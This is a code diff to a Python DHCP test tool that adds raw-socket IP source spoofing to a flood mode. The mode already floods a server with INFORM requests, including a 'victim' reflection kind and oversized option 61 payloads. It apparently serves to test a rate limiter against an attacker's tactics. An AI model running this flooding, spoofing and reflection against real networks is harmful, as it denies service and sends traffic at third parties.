@@ -9,6 +9,8 @@ new chaddr and, by kind:
   distinct       a new ciaddr too, all in the phone subnet (the limiter's table)
   oversized-61   an option 61 so large that neither 43 nor 120 fits beside its echo
   victim        ciaddr = --victim for every request (reflection)
+With `--spoof-source` each request's IP source is its ciaddr (sent through a raw socket), as
+an attacker defeating a source-address reply rule or a per-source limit would do.
 It prints one JSON line: {"sent": N, "seconds": T}.
 
 `probe` is the legitimate phone: a valid INFORM every `--interval` (new xid, and with
@@ -42,15 +44,28 @@ def inform(xid: int, chaddr: bytes, ciaddr: bytes, client_id: bytes | None = Non
     return header + bytes((53, 1, 8)) + identifier + VENDOR + PARAMETERS + b"\xff"
 
 
+def spoofed(payload: bytes, source: bytes, destination: bytes) -> bytes:
+    """IPv4 + UDP headers from `source`:68 to `destination`:67. The kernel fills in the IP
+    checksum (raw(7)); a UDP checksum of 0 means none (RFC 768)."""
+    udp = struct.pack("!HHHH", 68, 67, 8 + len(payload), 0)
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 64, 17, 0, source,
+                     destination)  # fmt: skip
+    return ip + udp + payload
+
+
 def flood(args: argparse.Namespace) -> None:
     seconds, rate = min(args.seconds, MAX_SECONDS), min(args.rate, MAX_RATE)
     subnet = ipaddress.IPv4Network(args.subnet)
     first, size = int(subnet.network_address) + 256, subnet.num_addresses - 512  # not the phones
-    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    if args.spoof_source:
+        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    else:
+        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        sock.bind(("0.0.0.0", args.port))  # 68: as a client does; 0: an ephemeral port
     sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
-    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-    sock.bind(("0.0.0.0", args.port))  # 68: as a client does; 0: an ephemeral port
     target = (args.server, 67)
+    server = socket.inet_aton(args.server)
     victim = socket.inet_aton(args.victim) if args.victim else None
     oversized = bytes((61, 255)) + bytes(255) + bytes((61, 25)) + bytes(25)  # echo: 284 bytes
     sent, started = 0, time.monotonic()
@@ -70,8 +85,11 @@ def flood(args: argparse.Namespace) -> None:
                 ciaddr = (first + n % size).to_bytes(4, "big")
             client_id = oversized if args.kind == "oversized-61" else None
             # OSError: our own send buffer is full, the flood is as fast as it can be
+            payload = inform(0x5A000000 | (n & 0xFFFFFF), chaddr, ciaddr, client_id)
+            if args.spoof_source:
+                payload = spoofed(payload, ciaddr, server)
             with contextlib.suppress(OSError):
-                sock.sendto(inform(0x5A000000 | (n & 0xFFFFFF), chaddr, ciaddr, client_id), target)
+                sock.sendto(payload, target)
             sent += 1
         time.sleep(0.0005)
     print(json.dumps({"sent": sent, "seconds": time.monotonic() - started}), flush=True)
@@ -125,6 +143,7 @@ def main() -> None:
     f.add_argument("--subnet", default="10.1.0.0/16")
     f.add_argument("--victim")
     f.add_argument("--port", type=int, default=0)
+    f.add_argument("--spoof-source", action="store_true")
     p = sub.add_parser("probe")
     p.add_argument("--server", required=True)
     p.add_argument("--ciaddr", required=True)
